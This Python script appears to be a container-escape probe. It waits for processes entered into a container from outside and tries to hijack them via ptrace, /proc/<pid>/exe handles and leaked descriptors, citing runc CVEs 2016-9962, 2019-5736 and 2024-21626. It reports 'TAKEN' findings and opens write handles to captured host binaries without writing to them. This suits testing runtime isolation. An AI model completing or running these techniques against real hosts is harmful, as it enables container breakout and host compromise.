# Lies in wait for processes that somebody else puts into this container, and tries to take them over before they are what they are to be: by
# ptrace(2), by what /proc says of them, by their program's file, to which it tries to write later (CVE-2016-9962, CVE-2019-5736, CVE-2024-21626).
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_DETACH, WALL = 0x4206, 0x4207, 17, 0x40000000
# What is executed in here lies there.
ITS_OWN = ("/usr/bin/", "/usr/lib/", "/bin/", "/payload")
handles, met, refusals = [], 0, set()


def look(pid):
    """Who may follow this link may do all the rest. Of a process that is none of ours it must never be so."""
    program = os.readlink(f"/proc/{pid}/exe")
    if not program.startswith(ITS_OWN):
        print(f"TAKEN look {program}", flush=True)
        handle = os.open(f"/proc/{pid}/exe", os.O_PATH)
        # Between the two looks it may have become what it is to be.
        if os.readlink(f"/proc/self/fd/{handle}").startswith(ITS_OWN):
            os.close(handle)
        else:
            handles.append(handle)


def look_outside(pid):
    for name in os.listdir(f"/proc/{pid}/fd"):
        if os.path.exists(f"/proc/{pid}/fd/{name}/etc/coracle"):
            print(f"TAKEN descriptor {name}", flush=True)
    if os.path.exists(f"/proc/{pid}/cwd/etc/coracle") or os.path.exists(f"/proc/{pid}/root/etc/coracle"):
        print("TAKEN directory", flush=True)


def seize(pid):
    if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) < 0:
        return
    try:
        look(pid)
    finally:
        # A tracer that does not wait keeps its tracee from ever being gone.
        libc.ptrace(PTRACE_INTERRUPT, pid, 0, 0)
        os.waitpid(pid, WALL)
        libc.ptrace(PTRACE_DETACH, pid, 0, 0)


def write_to_programs():
    for handle in handles:
        try:
            os.close(os.open(f"/proc/self/fd/{handle}", os.O_WRONLY))
            print("TAKEN exe", flush=True)
        except OSError as error:
            if error.strerror not in refusals:
                refusals.add(error.strerror)
                print(f"kept from it: {error.strerror}", flush=True)


print("lurking", flush=True)
latest, quiet = os.getpid(), 0
while True:
    # A program cannot be written to while it runs, so it is tried when there is nobody too.
    quiet += 1
    if quiet % 500 == 0:
        write_to_programs()
    # Numbers are given one after the other: the next one is ours before anybody else knows of it.
    for pid in range(latest + 1, latest + 30):
        if not os.path.exists(f"/proc/{pid}"):
            continue
        latest, met = pid, met + 1
        for attempt in (look, look, look, seize, look_outside, look):
            try:
                attempt(pid)
            except OSError:
                pass
        write_to_programs()
        quiet = 0
        if met % 10 == 0:
            print(f"met {met}", flush=True)
